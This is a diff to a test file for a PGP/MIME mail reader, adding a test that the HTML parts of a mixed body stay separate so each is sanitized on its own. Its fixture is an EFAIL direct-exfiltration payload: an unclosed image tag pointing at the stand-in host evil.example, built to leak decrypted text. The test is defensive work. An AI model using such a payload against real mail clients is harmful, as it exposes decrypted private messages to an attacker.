@@ -5,7 +5,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { parseMime } from '../../../main/pgp-mime/read/mime-parse.ts';
-import { bodyHtml } from '../../../main/pgp-mime/read/body-text.ts';
+import { bodyHtml, bodyHtmlParts, joinHtmlParts } from '../../../main/pgp-mime/read/body-text.ts';
 import { saveName } from '../../../main/services/save-name.ts';
 import { multipart, part, textPart } from '../../support/mail.ts';
 
@@ -47,6 +47,26 @@ test('bodyHtml: the last alternative with HTML; the root of multipart/related; n
 test('bodyHtml: text beside HTML in a mixed body is kept, escaped', () => {
   const mixed = multipart('mixed', [textPart('<b>not markup</b> & more'), textPart('<p>html</p>', 'text/html; charset=utf-8')]);
   assert.equal(html(mixed), '<pre>&#60;b&#62;not markup&#60;/b&#62; &#38; more</pre>\n<p>html</p>');
+});
+
+test('bodyHtmlParts: the parts of a mixed body stay apart, so each is sanitized on its own (EFAIL direct exfiltration)', () => {
+  const efail = multipart('mixed', [
+    textPart('<img src="http://evil.example/?', 'text/html; charset=utf-8'),
+    textPart('<p>the decrypted secret</p>', 'text/html; charset=utf-8'),
+    textPart('">', 'text/html; charset=utf-8'),
+  ]);
+  const parts = bodyHtmlParts(parseMime(efail).root)!;
+  assert.deepEqual(parts, ['<img src="http://evil.example/?', '<p>the decrypted secret</p>', '">']);
+  const joined = joinHtmlParts(parts);
+  assert.equal(joined.html, html(efail));
+  assert.deepEqual(
+    joined.starts.map((start, i) => joined.html.slice(start, start + parts[i]!.length)),
+    parts,
+  );
+  // Nested: a mixed body inside an alternative, text beside HTML.
+  const nested = multipart('alternative', [textPart('plain'), multipart('mixed', [textPart('<p>a</p>', 'text/html'), textPart('b & c')])]);
+  assert.deepEqual(bodyHtmlParts(parseMime(nested).root), ['<p>a</p>', '<pre>b &#38; c</pre>']);
+  assert.equal(bodyHtmlParts(parseMime(textPart('only text')).root), null);
 });
 
 test('saveName: one path segment, no hidden file, no direction tricks, the extension kept', () => {
